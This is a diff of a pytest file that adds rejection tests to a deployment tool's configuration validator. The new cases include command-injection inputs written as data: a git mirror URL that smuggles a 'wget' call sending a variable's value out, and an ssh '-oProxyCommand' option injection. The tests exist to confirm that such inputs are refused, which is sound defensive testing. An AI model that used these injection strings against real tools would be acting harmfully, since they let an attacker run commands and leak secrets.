@@ -23,6 +23,28 @@ CASES = [
     ("a misspelt setting", "woodpeker_host: ci.example.test\n", "did you mean woodpecker_host"),
     ("not a mapping", "- nfs_server\n", "mapping"),
     ("invalid YAML", "nfs_server: [unclosed\n", "is not valid YAML at line"),
+    # Issue 15: values every consumer would refuse (or worse, accept) passed `check` before.
+    ("a malformed IPv6 URL", 'gitea_internal_url: "http://[::1:3000"\n', "gitea_internal_url: 'http://[::1:3000'"),
+    ("credentials in a URL", 'gitea_internal_url: "http://op:Hunter2hunter2@gitea:3000"\n',
+     "gitea_internal_url: must not carry a user name or password"),
+    ("a keyring placeholder in a setting", 'nfs_path_argocd: "/volume1/k/${secret:gitea-admin-password}"\n',
+     "nfs_path_argocd: must not contain '${'"),
+    ("an Ingress host with capitals", "woodpecker_host: CI.example.test\n", "woodpecker_host: 'CI.example.test'"),
+    ("an Ingress host with a port", "argocd_host: cd.example.test:8443\n", "argocd_host: 'cd.example.test:8443'"),
+    ("an IP as Ingress host", "argocd_host: 10.1.2.3\n", "is an IP address"),
+    ("a 60-character release name", f"kargo_release: {'k' * 60}\n", "helm allows at most 53"),
+    ("options in a chart reference", 'kargo_chart: "oci://ghcr.io/a/b --set x=y"\n', "kargo_chart:"),
+    ("a zero size", 'nfs_size_kargo: "0"\n', "nfs_size_kargo: '0': a volume needs a size above zero"),
+    ("an endless helm timeout", "helm_timeout: 100000000000000000000h\n", "helm_timeout:"),
+    ("a system namespace", "kargo_namespace: cert-manager\n", "kargo_namespace: 'cert-manager' belongs to"),
+    ("a stage namespace shared with a pipeline", "beta_namespace: argocd\n", "beta_namespace: 'argocd' is also"),
+    ("a shell command in the mirror URL", 'github_mirror_url: "git@github.com:x/y.git; wget http://e/$K #"\n',
+     "github_mirror_url:"),
+    ("an ssh option as the mirror host", 'github_mirror_url: "git@-oProxyCommand=touch /tmp/p:x/y"\n',
+     "github_mirror_url:"),
+    ("a C1 control character", 'repo_name: "a\\u009bb"\n', "repo_name: value contains control characters"),
+    ("a deeply nested document", "a: " + "[" * 5000 + "]" * 5000 + "\n", "answers file"),
+    ("a huge answers file", "# " + "x" * 300_000 + "\n", "at most 256 KiB"),
 ]
 
 
@@ -49,7 +71,7 @@ def test_bad_answers_exit_2_name_the_setting_and_apply_nothing(tmp_path: Path, c
     r = run(tmp_path / "state", answers)
     assert r.returncode == 2, (r.stdout[-1000:], r.stderr[-1000:])
     assert needle in r.stderr and "Traceback" not in r.stderr + r.stdout, r.stderr
-    assert "hunter2hunter2" not in r.stderr + r.stdout  # a refused secret is not echoed back
+    assert "hunter2hunter2" not in (r.stderr + r.stdout).lower()  # a refused secret is not echoed back
     assert_nothing_applied(tmp_path / "state")
 
 
@@ -61,4 +83,19 @@ def test_non_utf8_answers_and_a_bad_environment_value(tmp_path: Path) -> None:
     answers.write_text("{}\n")
     r = run(tmp_path / "state", answers, {"STONKS_NFS_PORT": "abc"})
     assert r.returncode == 2 and "STONKS_NFS_PORT" in r.stderr and "Traceback" not in r.stderr
+    assert_nothing_applied(tmp_path / "state")
+
+
+@pytest.mark.parametrize(("var", "value", "needle"), [
+    ("STONKS_CONCURRENCY", "abc", "STONKS_CONCURRENCY: 'abc' is not a whole number from 1 to 32"),
+    ("STONKS_CONCURRENCY", "0", "STONKS_CONCURRENCY"),
+    ("STONKS_GITEA_ADMIN_PASSWORD", "short", "STONKS_GITEA_ADMIN_PASSWORD: 5 characters; a secret needs at least 8"),
+    ("STONKS_WOODPECKER_HOSTT", "ci.example.test", "did you mean STONKS_WOODPECKER_HOST?"),
+])
+def test_bad_stonks_variables_exit_2_before_anything_runs(tmp_path: Path, var: str, value: str, needle: str) -> None:
+    answers = tmp_path / "answers.yaml"
+    answers.write_text("{}\n")
+    r = run(tmp_path / "state", answers, {var: value})
+    assert r.returncode == 2, (r.stdout[-1000:], r.stderr[-1000:])
+    assert needle in r.stderr and "Traceback" not in r.stderr + r.stdout, r.stderr
     assert_nothing_applied(tmp_path / "state")
